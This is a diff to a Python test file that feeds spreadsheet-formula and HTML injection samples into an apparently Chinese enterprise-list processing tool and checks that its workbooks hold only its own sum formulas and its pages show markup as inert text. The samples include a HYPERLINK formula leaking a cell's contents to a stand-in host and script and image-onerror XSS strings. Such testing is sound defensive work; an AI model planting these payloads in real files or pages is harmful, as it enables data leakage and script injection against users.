@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import random
 import re
 import zipfile
 from html.parser import HTMLParser
@@ -10,7 +11,8 @@ from itertools import pairwise
 
 import openpyxl
 import pytest
-from cli_support import CODES, DIVISIONS, files, inside, lists, only_run, text, write, xlsx
+from cli_support import files, inside, lists, only_run, text, write, xlsx
+from oracle.codes import new_code
 
 EVIL = (
     '=HYPERLINK("http://example.invalid/?"&A1,"甲公司")',
@@ -29,21 +31,24 @@ EVIL = (
     "＝1+1",
 )
 
+# What the program itself writes: sums of a column, and the row account's check.
+OWN_FORMULA = re.compile(r"=(?:[-+]?(?:[A-Z]{1,3}\d+|SUM\([A-Z]{1,3}\d+:[A-Z]{1,3}\d+\)))+")
+
 
 @pytest.fixture(scope="module")
 def run(tmp_path_factory):
     """Every list is full of such names; each stands in several of them, and most need a person."""
     content = lists()
     for at, name in enumerate(EVIL):
-        code = CODES[at] if at < len(CODES) else ""
-        content.hnte.append((at + 4, name, code, f"GR2025{name}", 2025, "天河区" if at % 2 else name, name))
-        content.above.append((f"{name}四上", code, DIVISIONS["天河区"], name))
+        code = new_code(random.Random(f"evil/{at}"), "440106")
+        content.hnte.append((at + 4, name, code, f"GR2025{name}", 2025, "天河区", name))
+        content.above.append((f"{name}四上", code, name, name))
         content.services.append((name, code, name, name))
         content.patents.append((f"{name}；{EVIL[at - 1]}", code, name, "发明", name))
     extra = {
         "registry": [("企业名称", "统一社会信用代码", "曾用名"), *((name, name, name) for name in EVIL)],
-        "revoked": [("企业名称", "证书编号"), *((name, name) for name in EVIL[:2])],
-        "renames": [("原名称", "现名称"), *pairwise(EVIL)],
+        "revoked": [("企业名称", "证书编号"), *((f"{name}甲", name) for name in EVIL)],
+        "renames": [("原名称", "现名称"), *((f"{a}旧", b) for a, b in pairwise(EVIL))],
     }
     workspace = write(
         tmp_path_factory.mktemp("evil"),
@@ -69,10 +74,7 @@ def test_workbooks_hold_no_formula_but_sums_and_no_link(run):
             for row in sheet.iter_rows():
                 for cell in row:
                     if cell.data_type == "f":
-                        assert re.fullmatch(r"=SUM\([A-Z]{1,3}\d+:[A-Z]{1,3}\d+\)", cell.value), (
-                            sheet.title,
-                            cell.value,
-                        )
+                        assert OWN_FORMULA.fullmatch(cell.value), (sheet.title, cell.coordinate, cell.value)
                     elif isinstance(cell.value, str):
                         seen.add(cell.value)
         with zipfile.ZipFile(path) as package:
@@ -127,9 +129,8 @@ def test_pages_show_markup_as_text(run):
         everything += "".join(page.words)
         assert "<script" not in source
         assert "<img" not in source
-    assert "49" not in re.findall(r"\{\{.*?\}\}|(?<![\d,.])49(?![\d,.%])\{%", everything)
-    found = [name for name in EVIL if name in everything]
-    assert '"><img src=x onerror=alert(1)>' in found or "<script>alert(1)</script>" in found or not found
+    for name in EVIL:
+        assert name.strip() in everything, name
 
 
 def test_outputs_are_named_by_the_program_alone(run):
